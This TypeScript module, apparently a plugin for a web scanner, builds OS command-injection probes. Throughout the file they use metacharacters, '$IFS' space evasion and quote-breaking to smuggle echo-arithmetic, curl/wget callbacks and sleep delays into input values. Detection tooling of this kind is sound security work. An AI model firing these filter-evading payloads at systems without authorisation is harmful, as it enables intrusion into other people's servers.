import type { Arithmetic, Delaying, Sum } from "@picket/plugin-sdk/probe";

/**
 * A command in each of the places that a value may stand in: bare, in single and in double quotes. In each of them one of
 * the three is run, and what follows it is a comment.
 */
function everywhere(part: string, end = " #"): string {
  return `${part}${end}'${part}${end}"${part}${end}`;
}

/** What a shell takes for a blank; the second part is empty and ends the name of the first. */
const IFS = "$IFS$9";

type Write = (sum: Sum) => string;

/** The same without blanks, past filters that drop or refuse them: a shell puts its field separator in their place. */
function everywhereUnspaced(part: string): string {
  return everywhere(part.replaceAll(" ", IFS), ";#");
}

/**
 * Commands that print a sum of the shell's own working out between two words. Each goes without what filters take out
 * that let another pass: the first without spaces, the second without `;`, `&`, `$`, brackets, backquotes, `-` and a
 * space behind its `|`, the third without any separator but the line's end.
 */
const SUMS: readonly Write[] = [
  ({ before, a, b, after }) => everywhereUnspaced(`;echo ${before}$((${a}*${b}))${after}`),
  ({ before, a, b, after }) => everywhere(`|expr ${a} \\* ${b}|xargs printf ${before}%d${after}`),
  ({ before, a, b, after }) => everywhere(`\necho ${before}\nexpr ${a} \\* ${b}\necho ${after}\n`),
];

/** Has the shell print a sum of its own working out. */
export function sumsFor(value: string): readonly Arithmetic[] {
  return SUMS.map((write) => ({
    evaluated: (sum) => value + write(sum),
    inert: ({ before, a, b, after }) => `${value} echo ${before}(${a}*${b})${after}`,
  }));
}

/**
 * Has the shell ask for an address, by whichever program is there, as a substitution, once more where that ends a string in
 * single quotes: what is around it stays whole, groups too. `inert` names it as an argument.
 */
export function callsTo(value: string): { calling(address: string): string; inert(address: string): string } {
  const get = (address: string) => `$(curl ${address}||wget -qO- ${address})`.replaceAll(" ", IFS);
  return {
    calling: (address) => `${value}${get(address)}'${get(address)}'`,
    inert: (address) => `${value} curl ${address}`,
  };
}

/**
 * A delay where nothing of what the command prints comes back: as a substitution, which stands in double quotes whatever
 * is done to the quotes, and as a command. Where both are run, the delay is served twice. `inert` names it as an argument.
 */
export function sleepFor(value: string): { readonly delaying: Delaying; readonly inert: Delaying } {
  return {
    delaying: (seconds) => `${value}$(sleep${IFS}${seconds})${everywhereUnspaced(`;sleep ${seconds}`)}`,
    inert: (seconds) => `${value} sleep ${seconds}`,
  };
}
